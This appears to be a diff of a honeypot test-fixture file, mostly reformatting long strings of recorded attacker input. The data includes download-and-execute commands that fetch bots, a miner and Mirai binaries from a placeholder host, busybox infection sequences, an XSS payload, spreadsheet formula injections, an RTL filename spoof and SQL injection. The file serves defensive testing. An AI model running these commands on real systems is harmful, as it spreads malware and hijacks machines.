@@ -94,7 +94,8 @@ RECON = (
 )
 
 DROPS = (
-    "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget {web}/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh",
+    "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; "
+    "wget {web}/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh",
     "curl -s -L {web}/x86 -o /tmp/.x; chmod +x /tmp/.x; /tmp/.x ssh",
     "wget -q {web}/miner/xmrig.tar.gz -O /var/tmp/x.tgz; tar xf /var/tmp/x.tgz -C /var/tmp",
     "wget {web}/gone/bot.arm7 -O /tmp/bot; chmod 777 /tmp/bot; /tmp/bot",
@@ -119,7 +120,8 @@ MIRAI = (
     "cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox {token}",
     "tftp; wget; /bin/busybox {token}",
     "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s",
-    "/bin/busybox wget {web}/bins/mirai.{arch} -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; ./dvrHelper telnet.{arch}",
+    "/bin/busybox wget {web}/bins/mirai.{arch} -O - > dvrHelper; "
+    "/bin/busybox chmod 777 dvrHelper; ./dvrHelper telnet.{arch}",
     "rm .s; exit",
 )
 
@@ -146,7 +148,7 @@ HOSTILE_TEXT = (
     "<script>alert(1)</script>",
     "=cmd|' /C calc'!A0",
     "@SUM(1+9)*cmd|' /C calc'!A0",
-    "‮gpj.exe⁦",
+    "\u202egpj.exe\u2066",
     "'; DROP TABLE sessions; --",
     '{"eventid":"cowrie.login.success","username":"root"}',
     "line\r\nbreak\u2028here",
@@ -179,7 +181,11 @@ FORWARDS: tuple[tuple[str, int, bytes], ...] = (
     ("203.0.113.80", 80, b"GET http://ip.example.org/ HTTP/1.0\r\nCookie: a=b\r\n\r\n"),
     ("2001:db8::25", 25, b"EHLO x\r\n"),
     ("198.51.100.44", 443, b""),
-    ("www.example.org", 80, b"POST /login HTTP/1.1\r\nHost: www.example.org\r\nContent-Length: 9\r\n\r\nuser=\x00\xff\x1b"),
+    (
+        "www.example.org",
+        80,
+        b"POST /login HTTP/1.1\r\nHost: www.example.org\r\nContent-Length: 9\r\n\r\nuser=\x00\xff\x1b",
+    ),
     ("h\nx\x1b[0m", 80, b"binary \x00\x01\x02\xfe"),
 )
 
